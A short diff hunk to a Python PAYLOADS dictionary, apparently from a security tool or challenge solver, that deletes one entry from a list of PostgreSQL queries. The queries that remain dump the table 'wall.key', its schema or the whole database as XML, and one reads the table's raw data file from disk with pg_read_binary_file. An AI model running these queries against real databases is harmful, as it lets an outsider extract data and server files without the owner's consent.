@@ -87,7 +87,6 @@ PAYLOADS: dict[str, list[str]] = {
         "select query_to_xml('select * from wall.key', true, true, '')",
         "select table_to_xml('wall.key', true, true, '')",
         "select schema_to_xml('wall', true, true, '')",
-        "select database_to_xml(true, true, '')",
     ],
     "the file of the key": [
         "select pg_read_binary_file(pg_relation_filepath('wall.key'))",
